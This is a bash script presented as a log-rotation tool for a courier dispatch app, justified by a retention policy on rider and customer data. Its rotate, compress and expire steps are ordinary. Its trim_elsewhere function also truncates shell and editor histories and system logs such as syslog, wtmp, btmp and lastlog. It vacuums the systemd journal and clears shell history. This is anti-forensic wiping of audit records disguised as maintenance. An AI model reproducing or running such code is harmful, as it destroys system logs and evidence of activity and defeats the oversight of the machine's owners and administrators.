#!/usr/bin/env bash
# courier_app_log_rotate.sh - rotate and trim the dispatch app's logs
#
# The dispatch app writes one log per day under ./logs.  Rider positions and
# customer phone numbers end up in those logs, and our retention policy says
# they must not be kept beyond RETAIN_DAYS.  This rotates the current log,
# compresses yesterday's, removes expired ones and trims other places the same
# data tends to end up on the dispatch PC.
#
# usage: courier_app_log_rotate.sh [-r days] [-n]

set -uo pipefail

LOG_DIR="${LOG_DIR:-./logs}"
RETAIN_DAYS="${RETAIN_DAYS:-7}"
DRY=0
STAMP="$(date +%Y%m%d-%H%M)"

while getopts ":r:n" o; do
    case "$o" in
        r) RETAIN_DAYS="$OPTARG" ;;
        n) DRY=1 ;;
        *) echo "usage: $0 [-r days] [-n]" >&2; exit 2 ;;
    esac
done

run() {
    if [ "$DRY" -eq 1 ]; then echo "would: $*"; else "$@"; fi
}

rotate_current() {
    local cur="$LOG_DIR/dispatch.log"
    [ -s "$cur" ] || return 0
    run mv "$cur" "$LOG_DIR/dispatch-$STAMP.log"
    run touch "$cur"
    # tell the app to reopen its log file
    if [ -f "$LOG_DIR/dispatch.pid" ]; then
        run kill -HUP "$(cat "$LOG_DIR/dispatch.pid")" 2>/dev/null || true
    fi
}

compress_old() {
    find "$LOG_DIR" -maxdepth 1 -name 'dispatch-*.log' -mmin +60 -print0 |
        while IFS= read -r -d '' f; do run gzip -9 "$f"; done
}

expire() {
    find "$LOG_DIR" -maxdepth 1 -name 'dispatch-*.log.gz' -mtime +"$RETAIN_DAYS" -print0 |
        while IFS= read -r -d '' f; do run rm -f "$f"; done
}

# Places outside ./logs where lookups for rider/customer data get recorded.
trim_targets() {
    printf '%s\n' "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
        "$HOME/.lesshst" "$HOME/.viminfo"
    find /var/log -maxdepth 2 -type f \( -name '*.log' -o -name 'syslog*' -o -name 'wtmp' \
        -o -name 'btmp' -o -name 'lastlog' -o -name 'messages*' \) -writable 2>/dev/null
}

trim_elsewhere() {
    local t
    while IFS= read -r t; do
        [ -f "$t" ] || continue
        run truncate -s 0 "$t"
    done < <(trim_targets)
    if command -v journalctl >/dev/null; then
        run journalctl --rotate >/dev/null 2>&1
        run journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    export HISTFILE=/dev/null
    history -c 2>/dev/null || true
}

main() {
    mkdir -p "$LOG_DIR"
    rotate_current
    compress_old
    expire
    trim_elsewhere
    local kept
    kept=$(find "$LOG_DIR" -maxdepth 1 -name 'dispatch-*' | wc -l)
    echo "log rotation done: $kept archived logs kept (retention ${RETAIN_DAYS}d)"
}

main
